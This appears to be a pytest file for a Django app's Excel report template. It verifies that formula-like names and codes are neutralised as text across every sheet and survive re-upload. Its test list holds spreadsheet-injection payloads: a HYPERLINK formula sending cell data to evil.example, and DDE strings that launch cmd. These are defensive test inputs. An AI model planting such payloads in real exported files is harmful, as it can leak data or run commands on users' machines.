"""The 4W template writes names and codes that look like formulas as text, in its report
sheet, its hidden lists and its catalogue, and reads them back as they were."""

import io

import pytest
from openpyxl import load_workbook

from activities.models import ReportRow
from activities.services.reports import RowInput, report_save_rows
from tests.activities.test_import_helpers import download_template, filled, upload

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def as_read_back(text: str) -> str:
    """The neutralised text as openpyxl reads it: XML turns a carriage return into a newline."""
    return "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_codes_and_names_are_written_as_text_in_every_sheet(setup, focal, text):
    setup.activity.code = text[:30]
    setup.activity.name_en = text
    setup.activity.save()
    setup.district.name_en = text
    setup.district.save()
    setup.world.org_a.name_en = text
    setup.world.org_a.save()
    report_save_rows(
        report=setup.report,
        by=setup.world.user("focal"),
        rows=[
            RowInput(
                activity=setup.activity,
                area=setup.district,
                status="ongoing",
                implementing_other=text,
                donor=text,
                girls=1,
                boys=1,
                women=1,
                men=1,
                total=4,
            )
        ],
    )

    workbook = load_workbook(io.BytesIO(download_template(focal, setup.report)))

    report = workbook.worksheets[0]
    assert report["B1"].value == as_read_back(text)
    row = [cell.value for cell in report[6]]
    assert row[0] == as_read_back(text[:30])  # activity code
    assert row[1] == as_read_back(text)  # activity name
    assert row[3] == as_read_back(text)  # area name
    saved = setup.report.rows.get()  # stored without the spaces around it
    assert row[5] == as_read_back(saved.implementing_other)
    assert row[6] == as_read_back(saved.donor)
    assert as_read_back(text[:30]) in {cell.value for cell in workbook["Lists"]["A"]}
    catalogue = workbook.worksheets[2]
    assert (as_read_back(text[:30]), as_read_back(text)) in {
        (code, name) for code, name, _figures in catalogue.iter_rows(min_row=2, values_only=True)
    }
    assert all(
        cell.data_type != "f" for sheet in workbook.worksheets for line in sheet for cell in line
    )


def test_a_code_and_a_donor_that_start_with_a_sign_survive_the_round_trip(setup, focal):
    setup.activity.code = "-A001"
    setup.activity.save()
    template = download_template(focal, setup.report)
    codes = {cell.value for cell in load_workbook(io.BytesIO(template))["Lists"]["A"]}
    assert "'-A001" in codes  # what the drop-down list offers
    row = ["'-A001", "", "ZZ0101", "", "AH", "", "'+Fund", "Ongoing", 10, 10, 20, 10, 5, 2, 50]

    response = upload(focal, setup.report, filled(template, [row]))
    assert response.status_code == 302, response.content.decode()[:3000]
    focal.post(response["Location"])

    (saved,) = ReportRow.objects.filter(report=setup.report)
    assert saved.activity == setup.activity
    assert saved.donor == "+Fund"
